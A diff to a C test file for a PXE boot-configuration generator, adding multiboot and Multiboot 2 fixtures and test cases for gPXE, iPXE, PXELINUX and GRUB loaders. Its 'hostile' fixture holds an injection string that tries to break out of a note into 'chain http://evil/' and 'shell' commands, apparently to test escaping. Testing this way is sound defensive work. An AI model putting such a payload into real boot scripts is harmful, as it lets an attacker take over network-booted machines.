@@ -68,6 +68,22 @@ static const struct pxed_plan modules = {
     .initrds = {{S("os/solaris-11/boot/x86.microroot"), {0}}},
     .n_initrds = 1,
 };
+static const struct pxed_plan modules_with_words = {
+    .how = PXED_HOW_MULTIBOOT,
+    .kernel = S("os/smartos-1/platform/i86pc/kernel/amd64/unix"),
+    .args = S("-B console=ttya,smartos=true"),
+    .initrds = {{S("os/smartos-1/platform/i86pc/amd64/boot_archive"), S("type=rootfs name=ramdisk")},
+                {S("os/smartos-1/hash"), S("type=hash name=ramdisk")}},
+    .n_initrds = 2,
+};
+static const struct pxed_plan second = {
+    .how = PXED_HOW_MULTIBOOT2,
+    .kernel = S("os/x-1/unix"),
+    .args = S("-B a=http://pxe-server/x?"),
+    .initrds = {{S("os/x-1/archive"), {0}}},
+    .n_initrds = 1,
+};
+static const struct pxed_plan alone = {.how = PXED_HOW_MULTIBOOT, .kernel = S("os/x-1/core.elf")};
 static const struct pxed_plan hostile = {
     .how = PXED_HOW_LOCAL,
     .note = S("a\nexit\r\nchain http://evil/ || shell ${net0/mac} \"q\" 'r' \\ # ; & $(x) `y` \x7f\xc3\xa9 \t end"),
@@ -122,6 +138,24 @@ static const struct {
     {"efi.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &efi},
     {"multiboot.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &modules},
     {"multiboot.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &modules},
+    {"multiboot.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &modules},
+    {"multiboot.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &modules},
+    {"multiboot.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &modules},
+    {"modules.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &modules_with_words},
+    {"modules.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &modules_with_words},
+    {"modules.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &modules_with_words},
+    {"modules.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &modules_with_words},
+    {"modules.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &modules_with_words},
+    {"multiboot-alone.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &alone},
+    {"multiboot-alone.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &alone},
+    {"multiboot-alone.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &alone},
+    {"multiboot-alone.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &alone},
+    {"multiboot2.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &second},
+    {"debian-12.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &debian},
+    {"bare.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &bare},
+    {"local.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &own_disk},
+    {"silent.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &silent_disk},
+    {"hostile-note.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &hostile},
     {"hostile-note.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &hostile},
     {"hostile-note.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &hostile},
     {"hostile-note.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &hostile},
@@ -169,10 +203,17 @@ static const struct {
     {"gPXE has no names for wimboot", PXED_LOADER_GPXE, PXED_FW_BIOS, &wimboot},
     {"PXELINUX and wimboot", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &wimboot},
     {"GRUB and wimboot", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &wimboot},
-    {"PXELINUX has no multiboot here", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &modules},
+    {"mboot.c32 is for BIOS", PXED_LOADER_PXELINUX, PXED_FW_EFI_X64, &modules},
+    {"iPXE has multiboot for BIOS only", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &modules},
+    {"iPXE has no Multiboot 2", PXED_LOADER_IPXE, PXED_FW_BIOS, &second},
+    {"gPXE has no Multiboot 2", PXED_LOADER_GPXE, PXED_FW_BIOS, &second},
+    {"PXELINUX has no Multiboot 2", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &second},
+    {"GRUB 0.97 has no Multiboot 2", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &second},
+    {"GRUB 0.97 takes one initrd", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &many},
+    {"GRUB 0.97 is for BIOS", PXED_LOADER_PXEGRUB, PXED_FW_EFI_X64, &own_disk},
+    {"GRUB 0.97 and memdisk", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &windows},
     {"PXELINUX starts no EFI program", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &efi},
     {"GRUB and memdisk", PXED_LOADER_GRUB, PXED_FW_BIOS, &windows},
-    {"GRUB and multiboot", PXED_LOADER_GRUB, PXED_FW_BIOS, &modules},
 };
 
 START_TEST(no_dialect) {
